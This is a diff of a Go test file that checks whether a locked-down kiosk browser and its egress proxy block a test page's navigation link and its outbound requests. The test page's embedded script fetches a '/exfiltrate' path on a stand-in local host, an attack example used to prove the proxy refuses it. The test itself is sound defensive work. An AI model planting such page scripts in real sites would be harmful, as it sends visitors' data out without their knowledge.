@@ -1,6 +1,7 @@
 package runner_test
 
 import (
+	"cmp"
 	"crypto/tls"
 	"encoding/json"
 	"errors"
@@ -26,11 +27,13 @@ var kioskGreen = [3]byte{0, 200, 83}
 
 // hubServer is an HTTPS server on loopback standing in for JupyterHub,
 // with a certificate from ca; it counts requests and serves a page that
-// is all one colour and, once loaded, tries to fetch from other.
+// is all one colour and, once loaded, tries to fetch from other, and whose
+// whole area is a link to link (HOST:PORT; "" is other).
 // badCert counts the handshakes the client broke off (as a client that
 // refuses the server's certificate does).
-func hubServer(t testing.TB, ca *testCA, other string) (addr string, hits, badCert *atomic.Int64) {
+func hubServer(t testing.TB, ca *testCA, other, link string) (addr string, hits, badCert *atomic.Int64) {
 	t.Helper()
+	link = cmp.Or(link, other)
 	certPEM, keyPEM := ca.issue(t, "127.0.0.1", true)
 	cert, err := tls.X509KeyPair(certPEM, keyPEM)
 	if err != nil {
@@ -45,7 +48,7 @@ func hubServer(t testing.TB, ca *testCA, other string) (addr string, hits, badCe
 <style>html,body{margin:0;height:100%%;background:rgb(%d,%d,%d)}</style></head>
 <body><a href="https://%s/navigated" style="display:block;height:100%%"></a>
 <script>fetch("https://%s/exfiltrate").catch(function(){});</script></body></html>`,
-		kioskGreen[0], kioskGreen[1], kioskGreen[2], other, other)
+		kioskGreen[0], kioskGreen[1], kioskGreen[2], link, other)
 	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		hits.Add(1)
 		w.Header().Set("Content-Type", "text/html")
@@ -127,8 +130,14 @@ var (
 func testKiosk(t *testing.T, m mode, close bool, b kioskBrowser) {
 	ca := newCA(t, "airlock kiosk test CA")
 	other := echoListen(t, "tcp", "127.0.0.1:0").Addr().String()
-	otherHub, otherHits, _ := hubServer(t, ca, other)
-	hub, hits, _ := hubServer(t, ca, otherHub)
+	otherHub, otherHits, _ := hubServer(t, ca, other, "")
+	// The site's link goes to a host nothing else names: if the browser's
+	// own policy let it through, the proxy would be asked for it (and
+	// refuse, and report it). The page's fetch goes to the same host as
+	// the site on another port, which Firefox's host-only filter lets
+	// through: the proxy must refuse it.
+	filtered := "filtered.invalid:" + portOf(otherHub)
+	hub, hits, _ := hubServer(t, ca, otherHub, filtered)
 	dir := resultsDir(t, m.owner)
 	probeOut := filepath.Join(dir, "proxy.json")
 	attackOut := filepath.Join(dir, "attack.txt")
@@ -253,8 +262,8 @@ func testKiosk(t *testing.T, m mode, close bool, b kioskBrowser) {
 	}
 
 	// The page is one link to another host: clicking it is refused by
-	// the policy (the browser's block page replaces the site), and nothing
-	// reaches that host.
+	// the policy (the browser's block page replaces the site), and the
+	// browser never asks the proxy for it.
 	view.Click(view.W/2, view.H/2)
 	if err := realtest.WaitFor(30*time.Second, func() error {
 		if err := view.Update(false); err != nil {
@@ -263,8 +272,9 @@ func testKiosk(t *testing.T, m mode, close bool, b kioskBrowser) {
 		if f := greenShare(view); f > 0.1 {
 			return fmt.Errorf("%.0f%% of the screen still the site's", f*100)
 		}
-		// The block page has an icon and a message, not only white.
-		if view.Distinct() < 4 {
+		// The block page has an icon and a message, not only white
+		// (the pointer, in the middle, is less than 200 dark pixels).
+		if view.Distinct() < 4 || darkPixels(view, 32) < 200 {
 			return errors.New("no block page drawn yet")
 		}
 		return nil
@@ -324,6 +334,9 @@ func testKiosk(t *testing.T, m mode, close bool, b kioskBrowser) {
 		if verdicts[target] != "refuse" {
 			t.Errorf("egress to %s: audited %q, want refuse (all: %v)", target, verdicts[target], verdicts)
 		}
+	}
+	if v, ok := verdicts[filtered]; ok {
+		t.Errorf("the browser asked the proxy for %s (%s) after the click: its policy let the link through", filtered, v)
 	}
 }
 
@@ -440,7 +453,7 @@ func TestKioskUntrustedSite(t *testing.T) {
 	m := modes(t)[0]
 	ca := newCA(t, "airlock kiosk untrusted CA")
 	other := echoListen(t, "tcp", "127.0.0.1:0").Addr().String()
-	hub, hits, badCert := hubServer(t, ca, other)
+	hub, hits, badCert := hubServer(t, ca, other, "")
 	key := filepath.Join(realtest.SharedDir(t, m.owner), "key")
 	realtest.WriteFile(t, m.owner, key, testKey, 0o600)
 	id := fmt.Sprintf("kiosk-u-%d", time.Now().UnixNano()%1e6)
